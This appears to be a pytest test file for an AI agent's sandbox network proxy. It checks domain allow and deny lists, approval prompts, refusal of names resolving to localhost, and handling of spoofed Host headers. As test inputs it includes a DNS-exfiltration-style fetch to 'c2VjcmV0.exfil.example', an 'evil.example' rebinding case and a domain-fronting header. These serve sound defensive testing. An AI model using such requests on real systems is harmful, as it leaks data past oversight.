"""The sandbox's network, for real: only ``sandbox.network.allowedDomains``, through the kernel's
proxy (connections handed over from inside as file descriptors), by plain HTTP and CONNECT."""

from __future__ import annotations

import contextlib
import http.server
import json
import threading

import pytest

from jupyter_agent.sandbox.settings import load_sandbox_settings
from tests.tasks.shell_support import bash

from .conftest import sandboxed_context

FETCH = """import sys, urllib.request, urllib.error
for url in sys.argv[1:]:
    try:
        print(url, urllib.request.urlopen(url, timeout=20).read().decode())
    except urllib.error.HTTPError as exc:
        print(url, exc.code, exc.read().decode().strip())
    except OSError as exc:
        print(url, "failed:", exc)
"""

TUNNEL = """import http.client, sys
conn = http.client.HTTPConnection("127.0.0.1", 3128, timeout=20)
conn.set_tunnel("127.0.0.1", int(sys.argv[1]))
conn.request("GET", "/tunnelled")
print("tunnel:", conn.getresponse().read().decode())
"""


@pytest.fixture
def names(monkeypatch):
    """Host names the kernel's proxy resolves to 127.0.0.1 (as a public name could, by DNS)."""
    from jupyter_agent.sandbox import proxy

    real = proxy._resolve
    table: dict[str, list[str]] = {}

    async def resolve(host, port):
        return table[host] if host in table else await real(host, port)

    monkeypatch.setattr(proxy, "_resolve", resolve)
    return table


@pytest.fixture
def upstream():
    seen: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            seen.append(self.path)
            body = f"hello from upstream {self.path}".encode()
            self.send_response(200)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server.server_address[1], seen
    server.shutdown()


async def test_allowed_domains_are_reached_and_others_asked_about(tmp_path, reject, bwrap_ok, upstream):
    port, seen = upstream
    ctx = sandboxed_context(tmp_path, allowed_domains=("127.0.0.1",))
    (tmp_path / "work" / "fetch.py").write_text(FETCH)
    out = await bash(ctx, reject, f"python3 fetch.py http://127.0.0.1:{port}/allowed http://localhost:{port}/refused")
    assert "hello from upstream /allowed" in out.text, out.text
    assert "403 jupyter-agent sandbox: the connection to localhost was not approved:" in out.text
    assert seen == ["/allowed"]
    [(tool, question)] = reject.asks  # the command itself ran unasked; the new host was asked about
    assert tool == "Bash" and f"localhost (port {port})" in question.message
    assert f"this machine or its local network: whatever listens on port {port} runs outside" in question.message
    assert question.suggestions == ()  # no "Always allow" for this machine
    assert f"Network requests the sandbox refused (the program got HTTP 403):\nlocalhost:{port}: the connection to localhost was not approved" in out.text
    failed = await bash(ctx, reject, f"python3 fetch.py http://localhost:{port}/again; exit 1")
    assert "was not approved" in failed.text and "dangerouslyDisableSandbox: true (the user" not in failed.text
    (tmp_path / "work" / "tunnel.py").write_text(TUNNEL)
    tunnel = await bash(ctx, reject, f"python3 tunnel.py {port}")
    assert "tunnel: hello from upstream /tunnelled" in tunnel.text, tunnel.text
    status = await bash(ctx, reject, "exit 3")
    assert status.result.data.exit_code == 3  # the command's own status, under the forwarder


async def test_an_approved_host_is_reached_and_not_asked_about_again(tmp_path, approve, bwrap_ok, upstream):
    port, seen = upstream
    ctx = sandboxed_context(tmp_path)
    (tmp_path / "work" / "fetch.py").write_text(FETCH)
    first = await bash(ctx, approve, f"python3 fetch.py http://localhost:{port}/one http://localhost:{port}/two")
    second = await bash(ctx, approve, f"python3 fetch.py http://localhost:{port}/three")
    assert "upstream /two" in first.text and "upstream /three" in second.text, (first.text, second.text)
    assert seen == ["/one", "/two", "/three"] and len(approve.asks) == 1


async def test_this_machine_is_approved_port_by_port(tmp_path, approve, bwrap_ok, upstream):
    port, seen = upstream
    ctx = sandboxed_context(tmp_path)
    (tmp_path / "work" / "fetch.py").write_text(FETCH)
    await bash(ctx, approve, f"python3 fetch.py http://127.0.0.1:{port}/one")
    other = await bash(ctx, approve, f"python3 fetch.py http://127.0.0.1:{port}/two http://127.0.0.1:1/three")
    assert seen == ["/one", "/two"] and "http://127.0.0.1:1/three 502" in other.text, other.text
    assert [q.message.split(")")[0] for _t, q in approve.asks] == ["Network request outside the sandbox: 127.0.0.1 (port "
                                                                    f"{port}", "Network request outside the sandbox: 127.0.0.1 (port 1"]


async def test_a_name_is_not_looked_up_before_it_is_allowed(tmp_path, reject, bwrap_ok, monkeypatch):
    from jupyter_agent.sandbox import proxy

    looked_up: list[str] = []

    async def resolve(host, port):
        looked_up.append(host)
        return ["192.0.2.1"]

    monkeypatch.setattr(proxy, "_resolve", resolve)
    ctx = sandboxed_context(tmp_path, denied_domains=("*.exfil.example",))
    (tmp_path / "work" / "fetch.py").write_text(FETCH)
    out = await bash(ctx, reject, "python3 fetch.py http://c2VjcmV0.exfil.example/ http://other.example/")
    assert "c2vjcmv0.exfil.example is in sandbox.network.deniedDomains" in out.text  # names are case-free
    assert "the connection to other.example was not approved" in out.text
    assert looked_up == []  # neither name reached DNS (a query alone can carry data out)


async def test_an_approved_name_that_leads_to_this_machine_is_refused(tmp_path, approve, bwrap_ok, upstream, names):
    port, seen = upstream
    names["evil.example"] = names["named.example"] = ["127.0.0.1"]
    ctx = sandboxed_context(tmp_path, allowed_domains=("named.example",))
    (tmp_path / "work" / "fetch.py").write_text(FETCH)
    out = await bash(ctx, approve, f"python3 fetch.py http://evil.example:{port}/x http://named.example:{port}/y")
    assert "403 jupyter-agent sandbox: evil.example leads to 127.0.0.1, an address of this machine" in out.text
    assert "hello from upstream /y" in out.text and seen == ["/y"], out.text


async def test_a_program_that_ignores_the_proxy_finds_no_network(tmp_path, approve, bwrap_ok, upstream):
    port, seen = upstream
    ctx = sandboxed_context(tmp_path)
    direct = f"import socket; socket.create_connection(('127.0.0.1', {port}), timeout=5)"
    out = await bash(ctx, approve, f'python3 -c "{direct}" 2>&1 | tail -1')
    assert "Connection refused" in out.text and seen == [] and approve.asks == [], out.text


async def test_with_nobody_to_ask_a_command_gets_no_proxy(tmp_path, approve, bwrap_ok, upstream):
    from dataclasses import replace

    port, seen = upstream
    ctx = sandboxed_context(tmp_path)
    ctx.set_app_state(lambda s: replace(s, tool_permission_context=replace(s.tool_permission_context, mode="dontAsk")))
    (tmp_path / "work" / "fetch.py").write_text(FETCH)
    out = await bash(ctx, approve, f"echo proxy=${{HTTPS_PROXY:-none}}; python3 fetch.py http://localhost:{port}/x")
    assert "proxy=none" in out.text and "failed:" in out.text and seen == [] and approve.asks == [], out.text


def test_allowed_domains_setting_is_held_back_in_an_untrusted_folder(tmp_path):
    home, project = tmp_path / "home", tmp_path / "proj"
    (project / ".claude").mkdir(parents=True)
    (project / ".claude" / "settings.json").write_text(
        json.dumps({"sandbox": {"network": {"allowedDomains": ["pypi.org", "*.pythonhosted.org"]}}})
    )
    assert load_sandbox_settings(project, home, trusted=True).allowed_domains == ("pypi.org", "*.pythonhosted.org")
    assert load_sandbox_settings(project, home, trusted=False).allowed_domains == ()


async def test_a_background_command_has_the_same_network(tmp_path, approve, bwrap_ok, upstream):
    from tests.tasks.shell_support import call

    port, seen = upstream
    ctx = sandboxed_context(tmp_path, allowed_domains=("127.0.0.1",))
    (tmp_path / "work" / "fetch.py").write_text(FETCH)
    started = await bash(ctx, approve, f"python3 fetch.py http://127.0.0.1:{port}/bg", run_in_background=True)
    task_id = started.result.data.background_task_id
    result = await call(ctx, approve, "TaskOutput", {"task_id": task_id, "block": True, "timeout": 30000})
    assert "hello from upstream /bg" in result.text and seen == ["/bg"], result.text


async def test_a_background_commands_refused_connections_end_its_output(tmp_path, reject, bwrap_ok, upstream):
    from tests.tasks.shell_support import call

    port, seen = upstream
    ctx = sandboxed_context(tmp_path)
    (tmp_path / "work" / "fetch.py").write_text(FETCH)
    started = await bash(ctx, reject, f"python3 fetch.py http://localhost:{port}/bg", run_in_background=True)
    task_id = started.result.data.background_task_id
    result = await call(ctx, reject, "TaskOutput", {"task_id": task_id, "block": True, "timeout": 30000})
    assert "403 jupyter-agent sandbox: the connection to localhost was not approved" in result.text, result.text
    assert f"Network requests the sandbox refused (the program got HTTP 403):\nlocalhost:{port}" in result.text
    assert seen == []


async def test_what_is_handed_over_must_be_a_stream_socket(tmp_path):
    """A process inside could hand over any descriptor: a file is closed, not served, and the
    link goes on serving connections."""
    import asyncio
    import os
    import socket

    from jupyter_agent.sandbox.proxy import ProxyLink

    link = ProxyLink(("allowed.example",))
    inside = link.theirs.dup()  # what the forwarder would hold
    link.started()
    try:
        open_before = len(os.listdir("/proc/self/fd"))
        fd = os.open(tmp_path, os.O_RDONLY)
        socket.send_fds(inside, [b"c"], [fd])
        os.close(fd)
        for _ in range(100):  # the kernel side receives its own copy, and must close it
            await asyncio.sleep(0.01)
            if len(os.listdir("/proc/self/fd")) == open_before:
                break
        assert len(os.listdir("/proc/self/fd")) == open_before
        mine, theirs = socket.socketpair()
        socket.send_fds(inside, [b"c"], [theirs.fileno()])
        theirs.close()
        mine.sendall(b"CONNECT elsewhere.example:443 HTTP/1.1\r\n\r\n")
        mine.setblocking(False)
        reply = await asyncio.wait_for(asyncio.get_running_loop().sock_recv(mine, 4096), 10)
        assert reply.startswith(b"HTTP/1.1 403") and b"elsewhere.example is not in" in reply
        mine.close()
    finally:
        inside.close()
        link.close()


async def test_a_command_killed_by_a_signal_says_so(tmp_path, approve, bwrap_ok):
    ctx = sandboxed_context(tmp_path, allowed_domains=("127.0.0.1",))
    out = await bash(ctx, approve, "python3 -c \"import os, signal; os.kill(os.getpid(), signal.SIGTERM)\"; echo status=$?")
    assert "status=143" in out.text, out.text  # bash's own view, under the forwarder
    killed = await bash(ctx, approve, "kill -TERM $$")
    assert killed.result.data.exit_code == 143, killed.result.data  # as unsandboxed


@pytest.mark.parametrize(("request_bytes", "status"), [
    (b"GARBAGE\r\n\r\n", b"400"),
    (b"CONNECT allowed.example:notaport HTTP/1.1\r\n\r\n", b"400"),
    (b"GET /relative HTTP/1.1\r\nHost: allowed.example\r\n\r\n", b"400"),
    (b"x" * 70_000, b"400"),  # no end of the head within the limit
    (b"GET http://elsewhere.example/ HTTP/1.1\r\n\r\n", b"403"),
])
async def test_a_malformed_request_gets_a_clear_answer(request_bytes, status):
    import asyncio
    import socket

    with _proxied(("allowed.example",)) as mine:
        mine.sendall(request_bytes)
        mine.shutdown(socket.SHUT_WR)
        reply = await asyncio.wait_for(asyncio.get_running_loop().sock_recv(mine, 4096), 10)
        assert reply.startswith(b"HTTP/1.1 " + status) and b"jupyter-agent sandbox: " in reply, reply


@contextlib.contextmanager
def _proxied(allowed):
    """A connection handed to the kernel's proxy as the forwarder inside a sandbox hands one
    over (a descriptor over the link); yields this end, non-blocking."""
    import socket

    from jupyter_agent.sandbox.proxy import ProxyLink

    link = ProxyLink(allowed)
    inside = link.theirs.dup()
    link.started()
    mine, theirs = socket.socketpair()
    try:
        socket.send_fds(inside, [b"c"], [theirs.fileno()])
        theirs.close()
        mine.setblocking(False)
        yield mine
    finally:
        mine.close()
        inside.close()
        link.close()


@pytest.mark.parametrize("pidfd", [True, False], ids=["pidfd", "polled"])
def test_the_forwarder_hands_over_connections_and_returns_the_commands_status(tmp_path, pidfd):
    """The forwarder on its own (outside a sandbox, on a free port): each accepted connection
    reaches the link as a descriptor, and its exit status is the command's.  ``polled``: as on
    a kernel without pidfd_open (before Linux 5.3)."""
    import socket
    import subprocess
    import sys

    from jupyter_agent.sandbox.proxy import FORWARDER, PORT

    with socket.socket() as probe_port:
        probe_port.bind(("127.0.0.1", 0))
        free = probe_port.getsockname()[1]
    code = FORWARDER.replace(f"PORT = {PORT}", f"PORT = {free}")
    if not pidfd:
        code = code.replace("os.pidfd_open(pid)", "os.no_pidfd_open_here(pid)")
    mine, theirs = socket.socketpair()
    # the client connects (again until the forwarder listens) and stays until its connection is
    # closed from the far end: the command cannot end before the forwarder handed it over
    client = ("import socket, time\n"
              "for _ in range(200):\n"
              "    try:\n"
              f"        s = socket.create_connection(('127.0.0.1', {free})); break\n"
              "    except OSError: time.sleep(0.05)\n"
              "s.recv(1)\n")
    command = [sys.executable, "-I", "-S", "-c", code, str(theirs.fileno()), sys.executable, "-c",
               client + "raise SystemExit(7)\n"]
    forwarder = subprocess.Popen(command, pass_fds=[theirs.fileno()])
    theirs.close()
    try:
        mine.settimeout(30)
        data, fds, _flags, _addr = socket.recv_fds(mine, 16, 4)
        assert data == b"c" and len(fds) == 1
        handed = socket.socket(fileno=fds[0])
        assert handed.type == socket.SOCK_STREAM
        handed.close()  # the client's recv ends: it exits with 7
        assert forwarder.wait(timeout=30) == 7
    finally:
        forwarder.kill()
        mine.close()


async def test_the_commands_timeout_does_not_count_the_time_the_user_takes(tmp_path, bwrap_ok, upstream):
    """Asked with a 1.5 s timeout, answered after 3 s: the command still finishes."""
    import asyncio

    from jupyter_agent.core.permission_types import PermissionAllow

    port, seen = upstream

    async def slow_user(tool, input, context, ask, tool_use_id):
        await asyncio.sleep(3)
        return PermissionAllow()

    ctx = sandboxed_context(tmp_path)
    (tmp_path / "work" / "fetch.py").write_text(FETCH)
    out = await bash(ctx, slow_user, f"python3 fetch.py http://localhost:{port}/slow", timeout=1500)
    assert "hello from upstream /slow" in out.text and seen == ["/slow"], out.text
    assert not out.result.data.timed_out and out.result.data.exit_code == 0
    quick = await bash(ctx, slow_user, "sleep 3", timeout=1500)  # no question: the timeout holds
    assert quick.result.data.timed_out, quick.text


async def test_a_plain_http_request_carries_the_host_that_was_checked():
    """``Host: evil.example`` on a request for an allowed host would reach another site on a
    shared server (domain fronting); the proxy sends the checked host instead."""
    import asyncio

    seen: list[str] = []

    async def upstream(reader, writer):
        head = await reader.readuntil(b"\r\n\r\n")
        seen.extend(h.decode() for h in head.split(b"\r\n") if h.lower().startswith(b"host:"))
        writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok")
        await writer.drain()
        writer.close()

    server = await asyncio.start_server(upstream, "127.0.0.1", 0)
    port = server.sockets[0].getsockname()[1]
    try:
        with _proxied(("127.0.0.1",)) as mine:
            loop = asyncio.get_running_loop()
            await loop.sock_sendall(mine, f"GET http://127.0.0.1:{port}/x HTTP/1.1\r\nHost: evil.example\r\n"
                                          "host: b\r\n\r\n".encode())
            reply = b""
            while not reply.endswith(b"ok"):
                chunk = await asyncio.wait_for(loop.sock_recv(mine, 4096), 10)
                if not chunk:
                    break
                reply += chunk
        assert reply.startswith(b"HTTP/1.1 200") and seen == [f"Host: 127.0.0.1:{port}"], (reply, seen)
    finally:
        server.close()
